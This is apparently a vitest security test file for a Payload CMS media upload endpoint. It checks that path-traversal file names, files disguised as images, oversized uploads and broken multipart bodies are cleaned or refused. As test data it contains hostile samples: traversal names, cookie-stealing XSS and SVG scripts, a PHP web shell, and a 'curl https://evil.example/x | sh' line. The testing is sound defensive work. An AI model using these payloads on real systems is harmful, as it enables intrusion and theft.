import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'

import type { Payload } from 'payload'
import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'

import { UPLOAD_LIMIT_MB } from '../../src/collections/Media'
import { MAX_NAME_BYTES } from '../../src/hooks/media/nameUploadSafely'
import { createUser } from '../helpers/factories'
import { login, startTestServer, type TestServer } from '../helpers/http'
import { getTestPayload } from '../helpers/payload'

/**
 * Uploads to the media collection under attack, over the real HTTP server: file names that climb
 * out of MEDIA_DIR, scripts and pages disguised as images, SVG, files over the size limit and
 * multipart bodies that cannot be read. Each either lands inside MEDIA_DIR under a clean name or
 * is refused with a 4xx JSON answer that says why — never a 500, and never a half-stored upload.
 */

type Res = { status: number; body: any }

const MEDIA_DIR = process.env.MEDIA_DIR!
/** The test's temporary folder: the database beside MEDIA_DIR, nothing else. */
const AROUND = path.dirname(MEDIA_DIR)

let server: TestServer
let payload: Payload
let editorAuth = ''
let mediaId: number | string
/** Large enough that every image size (400, 800, 1600 wide) is written too. */
let png: Buffer

beforeAll(async () => {
  server = await startTestServer()
  payload = await getTestPayload()
  const editor = await createUser(payload, ['editor'], 'Eve Editor')
  editorAuth = await login(server.url, editor.email)
  png = await sharp({ create: { width: 1700, height: 900, channels: 3, background: '#336699' } })
    .png()
    .toBuffer()
  const first = await upload(png, 'first.png')
  expect(first.status).toBe(201)
  mediaId = first.body.doc.id
})
afterAll(() => server?.close())

// ---------------------------------------------------------------------------------------------
// Helpers

async function answer(res: Response): Promise<Res> {
  const text = await res.text()
  let body: unknown = text
  try {
    body = JSON.parse(text)
  } catch {
    // not JSON: kept as text, so a failing assertion shows it
  }
  return { status: res.status, body }
}

/** A media upload as the admin form sends it: the data as JSON in `_payload`, then the file. */
async function upload(
  data: Buffer | string,
  name: string,
  type = 'image/png',
  options: { method?: string; id?: unknown } = {},
) {
  const form = new FormData()
  form.append('_payload', JSON.stringify({ alt: 'A picture' }))
  form.append(
    'file',
    new Blob([typeof data === 'string' ? data : new Uint8Array(data)], { type }),
    name,
  )
  const url = `${server.url}/api/media${options.id === undefined ? '' : `/${options.id}`}`
  return answer(
    await fetch(url, {
      method: options.method ?? 'POST',
      headers: { Authorization: editorAuth },
      body: form,
    }),
  )
}

/** A multipart body written by hand, for what FormData would not send (a raw file name header, a broken body). */
async function uploadRaw(body: Buffer | string, contentType = 'multipart/form-data; boundary=XyZ') {
  return answer(
    await fetch(`${server.url}/api/media`, {
      method: 'POST',
      headers: { Authorization: editorAuth, 'Content-Type': contentType },
      body: typeof body === 'string' ? body : new Uint8Array(body),
    }),
  )
}

const part = (disposition: string, content: Buffer | string, type?: string) =>
  Buffer.concat([
    Buffer.from(
      `--XyZ\r\nContent-Disposition: form-data; ${disposition}\r\n${type ? `Content-Type: ${type}\r\n` : ''}\r\n`,
      'latin1',
    ),
    Buffer.isBuffer(content) ? content : Buffer.from(content),
    Buffer.from('\r\n'),
  ])
const multipart = (...parts: Buffer[]) => Buffer.concat([...parts, Buffer.from('--XyZ--\r\n')])

const message = (res: Res): string => res.body?.errors?.[0]?.message ?? JSON.stringify(res.body)
/** Payload's field-level reason for a refused file: `errors[0].data.errors[0].message`. */
const fileProblem = (res: Res): string | undefined =>
  res.body?.errors?.[0]?.data?.errors?.[0]?.message

/** Every file under a folder, recursively, as paths relative to it. */
const filesUnder = (dir: string): string[] =>
  (fs.readdirSync(dir, { recursive: true }) as string[]).sort()
/** The test folder around MEDIA_DIR, without the database files that change with every write. */
const around = () =>
  fs
    .readdirSync(AROUND)
    .filter((name) => !name.startsWith('test.db'))
    .sort()

let stored: { media: string[]; around: string[]; count: number }
const state = async () => ({
  media: filesUnder(MEDIA_DIR),
  around: around(),
  count: (await payload.count({ collection: 'media' })).totalDocs,
})

// ---------------------------------------------------------------------------------------------

describe('file names', () => {
  beforeEach(async () => {
    stored = await state()
  })

  it('stores a file whose name climbs out of MEDIA_DIR inside it, under its last segment', async () => {
    const names: [string, string][] = [
      ['../../evil-a.png', 'evil-a.png'],
      ['..%2F..%2Fevil-b.png', 'evil-b.png'],
      ['/tmp/evil-c.png', 'evil-c.png'],
      ['..\\..\\evil-d.png', 'evil-d.png'],
      ['..%5C..%5Cevil-e.png', 'evil-e.png'],
      ['evil%00-f.png', 'evil-f.png'],
    ]
    for (const [sent, expected] of names) {
      const res = await upload(png, sent)
      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({
        sent,
        status: 201,
        filename: expected,
      })
      const { url, sizes } = res.body.doc
      const served = await fetch(`${server.url}${new URL(url).pathname}`)
      expect(served.status).toBe(200)
      expect(served.headers.get('Content-Type')).toBe('image/png')
      for (const name of [
        expected,
        ...Object.values(sizes as Record<string, { filename: string }>).map(
          (size) => size.filename,
        ),
      ]) {
        expect(fs.existsSync(path.join(MEDIA_DIR, name))).toBe(true)
      }
    }
    const after = await state()
    expect(after.around).toEqual(stored.around)
    expect(after.media.every((name) => !name.includes(path.sep))).toBe(true)
    expect(after.count).toBe(stored.count + names.length)
    for (const stray of ['evil-a.png', 'evil-b.png', 'evil-c.png', 'evil-d.png', 'evil-e.png']) {
      expect(fs.existsSync(path.join(os.tmpdir(), stray))).toBe(false)
      expect(fs.existsSync(path.join(AROUND, stray))).toBe(false)
    }
  })

  it('also when the name comes encoded (filename*) and when a new file replaces an old one', async () => {
    const encoded = await uploadRaw(
      multipart(
        part('name="_payload"', JSON.stringify({ alt: 'Encoded' })),
        part(`name="file"; filename*=UTF-8''..%2F..%2Fevil-g.png`, png, 'image/png'),
      ),
    )
    expect(encoded.status).toBe(201)
    expect(encoded.body.doc.filename).toBe('evil-g.png')
    const replaced = await upload(png, '../../../evil-h.png', 'image/png', {
      method: 'PATCH',
      id: mediaId,
    })
    expect(replaced.status).toBe(200)
    expect(replaced.body.doc.filename).toBe('evil-h.png')
    expect(fs.existsSync(path.join(MEDIA_DIR, 'evil-h.png'))).toBe(true)
    expect(around()).toEqual(stored.around)
  })

  it(`shortens a very long name to ${MAX_NAME_BYTES} bytes (a 300-character name failed after writing the original)`, async () => {
    const cases: [string, string][] = [
      [`${'a'.repeat(300)}.png`, `${'a'.repeat(MAX_NAME_BYTES)}.png`],
      [`${'é'.repeat(200)}.png`, `${'é'.repeat(MAX_NAME_BYTES / 2)}.png`],
      ['b'.repeat(400), `${'b'.repeat(MAX_NAME_BYTES)}.png`],
    ]
    for (const [sent, expected] of cases) {
      const res = await upload(png, sent)
      expect({ status: res.status, filename: res.body.doc?.filename }).toEqual({
        status: 201,
        filename: expected,
      })
    }
    const after = await state()
    expect(after.count).toBe(stored.count + cases.length)
    // The originals and three sizes each, nothing else.
    expect(after.media.length).toBe(stored.media.length + cases.length * 4)
  })

  it('stores an image under its own type’s extension, whatever the name and Content-Type claim', async () => {
    const jpeg = await sharp(png).jpeg().toBuffer()
    const cases: [Buffer, string, string, string][] = [
      [png, 'page.html', 'text/html', 'page.png'],
      [png, 'script.php', 'application/x-php', 'script.png'],
      [jpeg, 'photo.png', 'image/png', 'photo.jpg'],
      [jpeg, 'photo.JPEG', 'image/jpeg', 'photo.jpeg'],
      [await sharp(png).resize(500).webp().toBuffer(), 'photo.png', 'image/png', 'photo.webp'],
      [await sharp(png).resize(500).gif().toBuffer(), 'anim.jpg', 'image/jpeg', 'anim.gif'],
      [await sharp(png).resize(500).avif().toBuffer(), 'photo.svg', 'image/svg+xml', 'photo.avif'],
      [png, 'no-extension', 'application/octet-stream', 'no-extension.png'],
    ]
    for (const [data, sent, type, expected] of cases) {
      const res = await upload(data, sent, type)
      expect({ sent, status: res.status, filename: res.body.doc?.filename }).toEqual({
        sent,
        status: 201,
        filename: expected,
      })
    }
    expect(filesUnder(MEDIA_DIR).filter((name) => /\.(html|php)$/.test(name))).toEqual([])
  })

  it('refuses a NUL byte in the file name header with 400, nothing stored', async () => {
    const res = await uploadRaw(
      multipart(
        part('name="_payload"', JSON.stringify({ alt: 'NUL' })),
        part('name="file"; filename="evil\0.png"', png, 'image/png'),
      ),
    )
    expect(res.status).toBe(400)
    expect(message(res)).toBe('The multipart body could not be read: Malformed part header.')
    expect(await state()).toEqual(stored)
  })
})

describe('files disguised as images', () => {
  beforeEach(async () => {
    stored = await state()
  })

  const SVG_SCRIPT =
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>'
  const DISGUISED: [string, string, string][] = [
    [
      'an HTML page',
      '<!DOCTYPE html><html><body><img src=x onerror=alert(1)><script>alert(document.cookie)</script></body></html>',
      'File type text/plain (from extension EXT) is not allowed.',
    ],
    [
      'an XHTML page',
      '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
      'Invalid MIME type: application/xml.',
    ],
    [
      'a PHP script',
      '<?php system($_GET["cmd"]); ?>',
      'File type text/plain (from extension EXT) is not allowed.',
    ],
    [
      'a shell script',
      '#!/bin/sh\ncurl https://evil.example/x | sh\n',
      'File type text/plain (from extension EXT) is not allowed.',
    ],
    [
      'a text file',
      'Just some text.\n',
      'File type text/plain (from extension EXT) is not allowed.',
    ],
    [
      'an SVG with a script',
      SVG_SCRIPT,
      'Invalid MIME type: image/svg+xml., SVG file contains potentially harmful content.',
    ],
  ]

  it.each(DISGUISED)(
    'refuses %s sent as evil.png (image/png) and evil.jpg (image/jpeg) with 400 naming its real type; nothing stored',
    async (_, content, problem) => {
      for (const [name, type, ext] of [
        ['evil.png', 'image/png', 'png'],
        ['evil.jpg', 'image/jpeg', 'jpg'],
      ]) {
        const res = await upload(content, name!, type)
        expect({
          name,
          status: res.status,
          message: message(res),
          problem: fileProblem(res),
        }).toEqual({
          name,
          status: 400,
          message: 'The following field is invalid: file',
          problem: problem.replace('EXT', ext!),
        })
      }
      expect(await state()).toEqual(stored)
    },
  )

  it('refuses every SVG, even one without a script, as .svg or disguised as .png', async () => {
    const harmless =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>'
    for (const [name, type] of [
      ['logo.svg', 'image/svg+xml'],
      ['logo.png', 'image/png'],
    ]) {
      const res = await upload(harmless, name!, type)
      expect({ name, status: res.status, problem: fileProblem(res) }).toEqual({
        name,
        status: 400,
        problem: 'Invalid MIME type: image/svg+xml.',
      })
    }
    expect(await state()).toEqual(stored)
  })

  it('refuses a file of another type that claims to be a PNG with 400 naming its real type, a raster TIFF too; nothing stored', async () => {
    const pdf = '%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'
    const zip = Buffer.from('504b03041400000000000000000000000000000000000000000000000000', 'hex')
    const tiff = await sharp(png).resize(40).tiff().toBuffer()
    for (const [what, data, mime] of [
      ['a PDF', pdf, 'application/pdf'],
      ['a ZIP archive', zip, 'application/zip'],
      ['a TIFF image', tiff, 'image/tiff'],
    ] as const) {
      const res = await upload(data, 'photo.png', 'image/png')
      expect({ what, status: res.status, problem: fileProblem(res) }).toEqual({
        what,
        status: 400,
        problem: `Invalid MIME type: ${mime}.`,
      })
    }
    expect(await state()).toEqual(stored)
  })

  it('refuses a script behind an image signature (GIF89a<script>…) with 400, nothing stored', async () => {
    const res = await upload('GIF89a<script>alert(1)</script>', 'evil.gif', 'image/gif')
    expect(res.status).toBe(400)
    expect(message(res)).toBe('There was a problem while uploading the file.')
    expect(await state()).toEqual(stored)
  })
})

describe('size', () => {
  it(`answers an upload over ${UPLOAD_LIMIT_MB} MB with 413 naming the limit, and stores nothing`, async () => {
    stored = await state()
    const tooLarge = Buffer.concat([
      png,
      Buffer.alloc(UPLOAD_LIMIT_MB * 1024 * 1024 + 1 - png.length),
    ])
    const res = await upload(tooLarge, 'huge.png')
    expect(res.status).toBe(413)
    expect(message(res)).toBe(
      `File size limit has been reached: an upload may be at most ${UPLOAD_LIMIT_MB} MB.`,
    )
    expect(await state()).toEqual(stored)
  })
})

describe('multipart bodies that cannot be read', () => {
  it('answers each with 400 saying what is wrong, never 500, and stores nothing', async () => {
    stored = await state()
    const file = part('name="file"; filename="ok.png"', png, 'image/png')
    const cases: [string, Buffer | string, string, string | RegExp][] = [
      [
        '`_payload` that is not JSON',
        multipart(part('name="_payload"', '{alt: nope'), file),
        'multipart/form-data; boundary=XyZ',
        /^The _payload field is not valid JSON: Expected property name/,
      ],
      [
        'a body cut off in the middle',
        Buffer.concat([part('name="_payload"', '{"alt":"x"}'), file.subarray(0, 200)]),
        'multipart/form-data; boundary=XyZ',
        'The multipart body could not be read: Unexpected end of form.',
      ],
      [
        'a body that is not multipart',
        'hello',
        'multipart/form-data; boundary=XyZ',
        'The multipart body could not be read: Unexpected end of form.',
      ],
      [
        'no boundary',
        multipart(file),
        'multipart/form-data',
        'The multipart body could not be read: its Content-Type needs a boundary (multipart/form-data; boundary=…).',
      ],
    ]
    for (const [what, body, type, expected] of cases) {
      const res = await uploadRaw(body, type)
      expect({ what, status: res.status }).toEqual({ what, status: 400 })
      expect(message(res)).toMatch(expected)
    }
    expect(await state()).toEqual(stored)
  })

  it('answers a multipart body sent to GraphQL with 415 (GraphQL takes JSON), a broken one included', async () => {
    const bodies = [
      multipart(part('name="query"', '{ Media { totalDocs } }')),
      multipart(part('name="_payload"', '{alt: nope')),
    ]
    for (const body of bodies) {
      const res = await answer(
        await fetch(`${server.url}/api/graphql`, {
          method: 'POST',
          headers: {
            Authorization: editorAuth,
            'Content-Type': 'multipart/form-data; boundary=XyZ',
          },
          body: new Uint8Array(body),
        }),
      )
      expect(res.status).toBe(415)
      expect(message(res)).toBe('GraphQL requests are JSON: send Content-Type: application/json.')
    }
  })
})
